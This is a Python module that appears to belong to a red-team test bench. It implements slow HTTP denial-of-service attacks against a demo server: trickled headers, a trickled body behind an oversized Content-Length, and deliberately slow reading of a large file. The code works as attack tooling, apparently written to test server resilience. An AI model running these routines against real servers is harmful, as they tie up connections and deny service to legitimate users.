"""Attacks that ask for something: heads and bodies that come slowly, answers that are taken slowly."""

from __future__ import annotations

import asyncio
import random

from demo.attacker import NAME
from tests.bench.redteam.attackers.slot import Slot
from tests.bench.redteam.protocols import http1

#: longer than any run: a body that never ends
_LONG = 1 << 22
#: the smallest window that the kernel gives
_WINDOW = 4096


async def drip_head(slot: Slot) -> None:
    """Send header lines one by one, end the request in time, take its answer, and begin the next one."""
    async with await slot.open() as connection:
        while True:
            loop = asyncio.get_running_loop()
            end = loop.time() + slot.attack.head_s
            await connection.send(f"GET / HTTP/1.1\r\nHost: {NAME}\r\n".encode() + _line(slot))
            while loop.time() < end:
                await slot.pause(connection)
                await connection.send(_line(slot))
            await connection.send(b"\r\n")
            await asyncio.wait_for(http1.read_answer(connection), 10.0)
            slot.counts["answers"] += 1


def _line(slot: Slot) -> bytes:
    return b"X-%d: %s\r\n" % (random.randrange(10**6), b"a" * slot.attack.size)


async def drip_body(slot: Slot) -> None:
    """Send a body in pieces."""
    async with await slot.open() as connection:
        head = f"POST /app/sink HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {_LONG}\r\n\r\n"
        await connection.send(head.encode())
        while True:
            await slot.pause(connection)
            await connection.send(b"b" * slot.attack.size)


async def read_slowly(slot: Slot) -> None:
    """Take a large file in small pieces."""
    async with await slot.open(receive_buffer=_WINDOW) as connection:
        await connection.send(http1.request("/big.bin"))
        while True:
            await asyncio.sleep(slot.step_s())
            await connection.receive_raw(slot.attack.size)
